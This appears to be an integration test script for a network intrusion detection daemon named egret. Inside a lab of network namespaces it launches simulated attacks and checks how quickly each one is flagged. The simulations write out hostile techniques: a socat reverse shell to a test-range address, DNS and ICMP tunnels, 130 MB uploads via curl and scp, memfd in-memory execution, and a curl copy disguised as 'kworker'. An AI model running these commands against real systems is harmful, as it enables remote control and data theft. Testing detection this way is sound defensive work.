#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Tunnels, uploads, spam, implants, beacons, generated names and listed addresses by real tools, under two daemons: one that tells
from the start (`learn 0s`) and one in its first day, which holds back what needs something to compare with.

Every attack has an address or a domain of its own, so that its finding is its own. Printed: level, score, seconds.
"""
import os
import random
import shutil
import sys
import time

import lab
from lab import S4

CASES = lab.golden.Cases()
LEVELS = ["none", "low", "medium", "high", "critical"]
PYTHON = "/usr/bin/python3"
BEACON_S = 75


def address(i):
    """Outside, as far as egret can tell: the block for tests of the amateur radio network. Nothing leaves the lab."""
    return f"44.128.0.{i}"


SMTP = """
import socketserver, sys
class H(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"220 mx ESMTP\\r\\n")
        data = False
        for line in self.rfile:
            line = line.strip()
            if data:
                data = line != b"."
                if not data: self.wfile.write(b"250 taken\\r\\n")
            elif line.upper().startswith(b"DATA"):
                data = True; self.wfile.write(b"354 go\\r\\n")
            elif line.upper().startswith(b"QUIT"):
                self.wfile.write(b"221 bye\\r\\n"); return
            else:
                self.wfile.write(b"250 fine\\r\\n")
class S(socketserver.ThreadingTCPServer):
    allow_reuse_address = daemon_threads = True
for port in (25, 587)[1:]:
    import threading; threading.Thread(target=S(("", port), H).serve_forever, daemon=True).start()
S(("", 25), H).serve_forever()
"""


def name_server(n):
    """dnsmasq that knows the tunnels' servers, and no other name: NXDOMAIN for what is generated."""
    return n.start("dnsmasq", "-k", "-C", "/dev/null", "--no-resolv", "--no-hosts", "--log-facility=-", "--user=root",
                   f"--pid-file={n.tmp}/dnsmasq.pid", "--bind-interfaces", f"--listen-address={S4}", "--no-negcache",
                   f"--address=/lab.example/{S4}", f"--server=/t.tunnel.example/{address(11)}",
                   f"--server=/d.pipes.example/{address(12)}", "--dns-forward-max=2000", "--edns-packet-max=4096",
                   *(f"--local=/{z}/" for z in ("com", "net", "org", "biz", "info", "ru", "example")),
                   ready=lambda _: n.listens("u", 53))


class Attack:
    """`least` is the level that the daemon without warm-up must reach within `seconds`; "none": what one detector alone says is
    below what is ever shown, and is only printed. `who` begins the program's file name."""

    def __init__(self, name, run, match, who, detectors, classes, least, seconds, tool=None):
        self.name, self.run, self.match, self.who = name, run, match, who
        self.detectors, self.classes, self.least, self.seconds, self.tool = detectors, classes, least, seconds, tool

    def of(self, d):
        """The heaviest finding of a daemon that is this attack's."""
        for r in d.findings():
            f = r["egret"]["finding"]
            program = os.path.basename(f["entity"].split(" (")[0])
            if program.startswith(self.who) and self.match in (f["peer"], r.get("dest_ip")) and any(
                    e.get("detector", f["detector"]) in self.detectors for e in [f]):
                return f
        return None


def iodine(n):
    n.start("iodined", "-f", "-c", "-P", "secret", "-l", address(11), "10.99.0.1", "t.tunnel.example",
            ready=lambda _: "10.99.0.1" in lab.must("ip", "-n", n.server, "addr"))
    n.start("iodine", "-f", "-r", "-P", "secret", S4, "t.tunnel.example", ns=n.client, watched=True, log="iodine.log",
            ready=lambda c: "setup complete" in open(c.log, errors="replace").read())
    n.run("bash", "-c", "head -c 200000 /dev/urandom | timeout 20 socat -u - TCP:10.99.0.1:7001", check=False)


def dns2tcp(n):
    conf = os.path.join(n.tmp, "dns2tcpd.conf")
    with open(conf, "w", encoding="ascii") as f:
        f.write(f"listen = {address(12)}\nport = 53\nuser = root\nchroot = {n.tmp}\ndomain = d.pipes.example\n"
                f"resources = sink:127.0.0.1:7001\n")
    n.start("dns2tcpd", "-F", "-f", conf)
    time.sleep(0.5)
    n.start("dns2tcpc", "-z", "d.pipes.example", "-r", "sink", "-l", "9999", S4, ns=n.client, watched=True,
            ready=lambda _: n.listens("t", 9999, n.client))
    n.run("bash", "-c", "head -c 100000 /dev/urandom | timeout 20 socat -u - TCP:127.0.0.1:9999", check=False)


def ptunnel(n):
    n.start("ptunnel")
    # The far end answers from its first address, whatever it was asked at.
    n.start("ptunnel", "-p", S4, "-lp", "8000", "-da", S4, "-dp", "7003", ns=n.client, watched=True,
            ready=lambda _: n.listens("t", 8000, n.client))
    n.run("bash", "-c", "for i in $(seq 80); do head -c $((RANDOM % 200 + 20)) /dev/urandom; sleep 0.02; done | "
          "timeout 8 socat -t 1 - TCP:127.0.0.1:8000 > /dev/null", check=False)


def upload(n, seconds, *argv):
    n.run("timeout", str(seconds), *argv, check=False)


def spam(n):
    for i in range(30):
        n.run("swaks", "--server", address(40 + i), "--port", "25", "--to", f"a{i}@mx.example", "--from", "b@lab.example",
              "--silent", "3", "--timeout", "5", check=False)


def copied(n, path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    shutil.copy("/usr/bin/curl", path)
    for _ in range(3):
        n.run(path, "-s", "-m", "5", f"http://{address(17)}/", check=False)


MEMFD = ("import os,sys\nfd=os.memfd_create('x')\nos.write(fd,open('/usr/bin/curl','rb').read())\n"
         f"os.execve(f'/proc/self/fd/{{fd}}',['x','-s','-m','5','http://{address(18)}/'],{{}})")


def generated(n):
    """As Necurs and its like: many names of letters drawn at random."""
    dice = random.Random(7)
    for _ in range(60):
        name = "".join(dice.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(dice.randint(12, 20)))
        n.run("dig", "+tries=1", "+time=2", f"{name}.{dice.choice(['com', 'net', 'biz', 'info', 'ru'])}", check=False)


def beacon(n):
    n.start("bash", "-c", f"while sleep 2; do curl -s -m 5 http://{address(19)}/checkin; done", ns=n.client, watched=True)


def attacks(n, ssh):
    big = os.path.join(n.tmp, "big")
    with open(big, "wb") as f:
        f.truncate(130_000_000)
    hidden = os.path.join(n.tmp, ".cache", "kworker")
    shell = f"socat TCP:{address(21)}:4444 EXEC:sh"
    return [
        Attack("beacon every 2 s", beacon, address(19), "curl", ("beacon", "polling"), ("c2",), "none", 2),
        Attack("socat shell", lambda n: n.start("bash", "-c", shell, ns=n.client, watched=True), address(21), "socat",
               ("shell",), ("c2",), "high", 1),
        Attack("iodine", iodine, "tunnel.example", "iodine", ("dns",), ("exfil", "c2"), "medium", 30, "iodine"),
        Attack("dns2tcp", dns2tcp, "pipes.example", "dns2tcpc", ("dns",), ("exfil", "c2"), "medium", 30, "dns2tcpc"),
        Attack("ptunnel", ptunnel, S4, "ptunnel", ("icmp",), ("exfil", "c2"), "medium", 30, "ptunnel"),
        Attack("an address on a list of Tor's", lambda n: n.run("curl", "-sk", "-m", "5", f"https://{address(14)}/"),
               address(14), "curl", ("intel",), ("intel", "policy", "c2"), "none", 3),
        Attack("curl -T, 130 MB", lambda n: upload(n, 30, "curl", "-s", "-T", big, "-H", "Expect:", f"http://{address(15)}:7001/"),
               address(15), "curl", ("volume",), ("exfil",), "medium", 10),
        Attack("scp, 130 MB", lambda n: upload(n, 40, "bash", "-c", f"scp -l 200000 -O {ssh[4:].replace('-p ', '-P ')} {big} root@{address(16)}:big"),
               address(16), "ssh", ("volume",), ("exfil",), "medium", 10, "scp"),
        Attack("spam by swaks", spam, address(69), "perl", ("mail",), ("c2",), "none", 2, "swaks"),
        Attack("a copy of curl in /tmp", lambda n: copied(n, hidden), address(17), "kworker", ("execution",), ("c2",), "low", 5),
        Attack("a program in memory", lambda n: n.python(MEMFD, check=False), address(18), "", ("execution",), ("c2",), "low", 5),
        Attack("generated names", generated, f"{S4}:53", "dig", ("dga",), ("c2",), "medium", 20),
        Attack("TLS to an address", lambda n: [n.run("curl", "-sk", "-m", "5", f"https://{address(20)}/") for _ in range(3)],
               address(20), "curl", ("naming",), ("c2",), "none", 5),
    ]


def judge(a, d, warming):
    end, f = time.monotonic() + a.seconds, None
    while time.monotonic() < end:
        f = a.of(d)
        if f and LEVELS.index(f["level"]) >= LEVELS.index(a.least):
            break
        time.sleep(0.1)
    took = time.monotonic() - (end - a.seconds)
    w = a.of(warming)
    text = "not found" if not f else f"{f['level']} {f['class']} {f['score_db']} dB by {f['detector']} of {f['entity']}, {took:.1f} s after"
    print(f"{a.name}: {text}; first day: {w['level'] + ' ' + str(w['score_db']) + ' dB' if w else 'not found'}")
    if a.least == "none":
        return
    CASES.check(f"{a.name}: at least {a.least}", f and LEVELS.index(f["level"]) >= LEVELS.index(a.least) and
                f["class"] in a.classes, f, [(r["egret"]["finding"]["entity"], r["egret"]["finding"]["peer"],
                                              r["egret"]["finding"]["detector"]) for r in d.findings()])


def feed(n, *daemons):
    path = os.path.join(n.tmp, "tor.txt")
    with open(path, "w", encoding="ascii") as f:
        f.write(address(14) + "\n")
    for d in daemons:
        done = d.egret("intel", "add", "tor", path, "--class", "tor", timeout=60)
        CASES.check("egret intel add", done.returncode == 0, done)


def main():
    lab.need(CASES, "socat", "dnsmasq", "nginx", "dig", "dropbear", "ssh")
    n = lab.Lab("att")
    try:
        name_server(n)
        lab.must("ip", "-n", n.client, "route", "add", "44.128.0.0/24", "dev", "c0")
        lab.must("ip", "netns", "exec", n.server, "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
        for i in [*range(11, 22), *range(40, 70)]:
            lab.must("ip", "-n", n.server, "addr", "add", address(i) + "/24", "dev", "s0")
        n.nginx()
        n.sink(7001)
        n.echo(7003)
        n.small_server("c2", 4444)
        n.start(PYTHON, "-c", SMTP, ready=lambda _: n.listens("t", 25))
        ssh = n.dropbear()
        d, warming = n.daemon(conf="learn 0s\n"), n.daemon()
        feed(n, d, warming)
        todo = []
        for a in attacks(n, ssh):
            if a.tool and not shutil.which(a.tool):
                CASES.skip(a.name, f"no {a.tool} here")
                continue
            todo.append(a)
        begin = time.monotonic()
        for a in todo:
            attempt(a, n)
            if a is not todo[0]:
                judge(a, d, warming)
        time.sleep(max(0, begin + BEACON_S - time.monotonic()))
        judge(todo[0], d, warming)
        if "-v" in sys.argv:
            print(d.egret("findings", "--low").stdout)
        d.stop()
        warming.stop()
        lab.golden.check_schema(CASES, "records of attacks", d.lines())
    finally:
        n.close()
    return CASES.end()


def attempt(a, n):
    try:
        a.run(n)
    except (RuntimeError, TimeoutError, OSError) as e:
        CASES.check(f"{a.name}: could be tried", False, repr(e))


sys.exit(main())
